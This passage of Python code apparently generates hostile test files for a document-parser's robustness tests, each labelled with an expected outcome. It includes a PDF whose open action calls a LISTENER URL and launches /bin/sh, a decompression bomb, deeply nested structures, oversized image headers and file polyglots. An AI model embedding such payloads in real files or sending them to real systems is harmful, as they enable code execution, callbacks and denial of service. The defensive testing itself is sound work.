    return page_pdf(catalog=b"/OpenAction << /S /JavaScript /JS (app.launchURL\\('%s'\\); while\\(1\\);) >> /AA << /WC << /S /Launch /F (/bin/sh) >> >>" % LISTENER.encode(),
                    page=b"/AA << /O << /S /URI /URI (%s) >> >>" % LISTENER.encode())


@shape("xref-loop.pdf", 1, 1, OK, "malformed")
def pdf_xref_loop(_):
    base = page_pdf()
    start = base.rindex(b"startxref\n") + 10
    at = int(base[start:].split()[0])
    return base.replace(b"/Root 1 0 R ", b"/Root 1 0 R /Prev %d /XRefStm %d" % (at, at))


@shape("xref-lies.pdf", 1, 1, OK, "malformed")
def pdf_xref_lies(_):
    return page_pdf().replace(b"xref\n0 6", b"xref\n0 4294967295", 1).replace(b"/Size 6", b"/Size 2147483647")


@shape("object-stream.pdf", 20 << 20, 1 << 30, OK, "malformed", "over_limit")
def pdf_object_stream(size):
    bomb = stream(pressed(size, zlib.compressobj(9)), b"/Type /ObjStm /N 1000000 /First 10 /Filter /FlateDecode")
    return page_pdf(more=[bomb])


@shape("arrays.pdf", 5000, 1000000, OK, "malformed")
def pdf_arrays(depth_):
    return page_pdf(page=b"/X " + b"[" * depth_ + b"]" * depth_)


@shape("dictionaries.pdf", 5000, 1000000, OK, "malformed")
def pdf_dictionaries(depth_):
    return page_pdf(page=b"/X " + b"<< /A " * depth_ + b"1" + b" >>" * depth_)


def picture_pdf(content, entries):
    return page_pdf(page=b"/Resources << /Font << /F 5 0 R >> /XObject << /I 6 0 R >> >>", contents=WORDS + b" q 600 0 0 700 0 0 cm /I Do Q",
                    more=[stream(content, b"/Type /XObject /Subtype /Image " + entries)])


@shape("jbig2.pdf", 1, 1)
def pdf_jbig2(_):
    page = struct.pack(">IBBI", 0, 0x30, 1, 19) + struct.pack(">IIII", 0x7FFFFFFF, 0x7FFFFFFF, 0, 0) + b"\0\0\0"
    return picture_pdf(page + b"\xff" * 100, b"/Width 2147483647 /Height 2147483647 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /JBIG2Decode")


@shape("jpx.pdf", 1, 1)
def pdf_jpx(_):
    size = struct.pack(">HHHIIIIIIIIH", 0xFF51, 41, 0, 0x7FFFFFFF, 0x7FFFFFFF, 0, 0, 0x7FFFFFFF, 0x7FFFFFFF, 0, 0, 1) + b"\7\1\1"
    return picture_pdf(b"\xff\x4f" + size + b"\xff\x52" + bytes(20), b"/Width 100000 /Height 100000 /Filter /JPXDecode")


@shape("picture.pdf", 1, 1)
def pdf_picture(_):
    return picture_pdf(zlib.compress(bytes(1 << 20), 9), b"/Width 100000 /Height 100000 /BitsPerComponent 16 /ColorSpace /DeviceCMYK /Filter /FlateDecode")


@shape("unicode-map.pdf", 1, 1)
def pdf_unicode_map(_):
    cmap = b"/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <00> <ffffffff> endcodespacerange " \
           b"100 beginbfrange " + b"<00000000> <ffffffff> <0041> " * 100 + b"endbfrange endcmap end"
    return page_pdf(page=b"/Resources << /Font << /F 6 0 R >> >>", more=[
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 7 0 R >>", stream(cmap)])


# --- polyglots -------------------------------------------------------------------------------------------------------------

@shape("pdf-and-zip.pdf", 1, 1)
def polyglot_pdf(_):
    return page_pdf() + zipped([("inner.txt", b"zipped words")])


@shape("zip-and-pdf.zip", 1, 1)
def polyglot_zip(_):
    return page_pdf() + zipped([("inner.txt", b"zipped words")])


@shape("html-and-zip.html", 1, 1, OK, "unsupported")
def polyglot_html(_):
    return b"<!doctype html><p>words of a page<!--" + zipped([("inner.txt", b"zipped words")]) + b"--><script>/*</script>"


@shape("gif-and-zip.gif", 1, 1, OK, "unsupported")
def polyglot_gif(_):
    return b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\4\1\0\0\0\0,\0\0\0\0\1\0\1\0\0\2\2D\1\0;" + zipped([("inner.txt", b"zipped words")])


@shape("docx-and-xlsx.docx", 1, 1, OK, "malformed")
def polyglot_office(_):
    with zipfile.ZipFile(FIXTURES / "xlsx/report-en.xlsx") as other, zipfile.ZipFile(FIXTURES / "docx/mill-en.docx") as first:
        names = {info.filename for info in first.infolist()}
        return zipped([(info.filename, first.read(info)) for info in first.infolist()] +
                      [(info.filename, other.read(info)) for info in other.infolist() if info.filename not in names])


@shape("epub-and-odt.epub", 1, 1, OK, "malformed")
def polyglot_book(_):
    with zipfile.ZipFile(FIXTURES / "book/three.epub") as archive:
        members = [(info.filename, archive.read(info)) for info in archive.infolist()]
    members[0] = ("mimetype", "application/vnd.oasis.opendocument.text")
    return zipped(members, zipfile.ZIP_STORED)


@shape("script-and-zip.sh", 1, 1, OK, "unsupported")
def polyglot_script(_):
    return b"#!/bin/sh\necho words\nexit\n" + zipped([("inner.txt", b"zipped words")])
